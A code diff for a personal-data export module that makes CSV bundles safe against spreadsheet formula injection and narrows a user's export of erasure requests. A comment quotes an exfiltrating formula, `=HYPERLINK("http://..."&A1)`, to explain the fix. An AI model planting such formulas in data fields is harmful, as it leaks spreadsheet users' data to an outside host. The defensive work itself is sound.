@@ -18,12 +18,16 @@ time, never all held in memory) and never truncated. Two formats:
   ``checkpoint`` is the log's newest signed checkpoint at export time: a receipt
   (inclusion proof) for any listed log entry is ``deleatur log prove INDEX``.
   A decision shows only the beliefs about what is exported: another person's
-  values in the same snapshot are theirs, not the requester's.
+  values in the same snapshot are theirs, not the requester's. The erasure
+  requests are those about the subject or, for a user, those that reached that
+  user and no one else (see ``_Export.requests``).
 
 * a CSV bundle: a directory with ``records.csv``, ``log.csv``,
   ``erasure_requests.csv``, ``restrictions.csv``, ``decisions.csv``,
   ``audit.csv`` and ``manifest.json`` (format, scope and counts). Every table has
-  its header row, an empty one too.
+  its header row, an empty one too. A text cell beginning with ``=``, ``+``, ``-``,
+  ``@``, a tab or a carriage return has a ``'`` put before it, so that a spreadsheet
+  shows it rather than run it as a formula (see ``_FORMULA_START``).
 
 Export files are made readable by their owner only (0600; a CSV bundle's directory,
 when the export creates it, 0700): they hold a person's data in clear.
@@ -46,7 +50,7 @@ from typing import TYPE_CHECKING, Any, Protocol, TextIO
 
 from ..clock import isoformat
 from ..decisions.snapshots import canonical, explain_any
-from ..erasure.requests import ErasureRequest
+from ..erasure.requests import ErasureRequest, user_reference
 from ..errors import InvalidInputError
 from ..log.entries import Entry, EventType
 from ..model import EVERYWHERE, Record, SpaceFilter, canonical_subject, check_optional
@@ -75,6 +79,17 @@ _TABLES = {
     "restrictions.csv": ("subject", "reason", "actor", "since"),
     "decisions.csv": ("id", "time", "actor", "summary", "sha256", "redactions", "beliefs"),
 }  # fmt: skip
+
+
+# A spreadsheet that opens a CSV file takes a cell beginning with one of these for a
+# formula, and runs it: =HYPERLINK("http://..."&A1) in a record's text would send the
+# cells beside it away. Such a cell is written with a leading ' (read as "text"; OWASP's
+# mitigation of CSV injection). Only the CSV bundle: the JSON export is exact.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(row: dict[str, Any]) -> dict[str, Any]:
+    return {k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
 
 
 def _private(path: Path) -> TextIO:
@@ -168,12 +183,17 @@ class _Export:
         return [(self.memory._decrypt(r), log[r.id]) for r in rows]
 
     def requests(self) -> list[dict[str, Any]]:
+        """The requests about the subject; for a user, those that reached the user and no
+        one else (an erasure of their account, or of a subject in their spaces), as a key
+        scoped to the user reads them: without the counts of records in other users'
+        spaces, which are not the user's to see."""
         now = self.memory._clock()
-        return [
-            r.to_json(now)
-            for r in map(ErasureRequest.from_row, self.memory.backend.requests(self.memory.tenant))
-            if self.ref is not None and r.subject_ref == self.ref
-        ]
+        requests = map(ErasureRequest.from_row, self.memory.backend.requests(self.memory.tenant))
+        if self.ref is not None:
+            return [r.to_json(now) for r in requests if r.subject_ref == self.ref]
+        assert self.scope.user_id is not None
+        user = user_reference(self.memory, self.scope.user_id)
+        return [r.beyond_scopes_hidden().to_json(now) for r in requests if r.users == (user,)]
 
     def restrictions(self) -> list[dict[str, Any]]:
         if self.ref is None:
@@ -308,7 +328,7 @@ def _write_bundle(memory: Memory, job: _Export, directory: Path) -> None:
                     row = record.to_json()
                     row["metadata"] = json.dumps(row["metadata"], ensure_ascii=False)
                     row["derived_from"] = " ".join(row["derived_from"])
-                    records.writerow(row)
+                    records.writerow(_inert(row))
                     for item in entries:
                         log.writerow([record.id, item["index"], json.dumps(item["entry"], sort_keys=True)])
     _write_table(directory / "erasure_requests.csv", job.requests())
@@ -341,4 +361,4 @@ def _write_table(path: Path, rows: list[dict[str, Any]]) -> None:
         writer = csv.DictWriter(handle, fieldnames=_TABLES[path.name])
         writer.writeheader()
         for row in rows:
-            writer.writerow({k: json.dumps(v) if isinstance(v, dict | list) else v for k, v in row.items()})
+            writer.writerow(_inert({k: json.dumps(v) if isinstance(v, dict | list) else v for k, v in row.items()}))
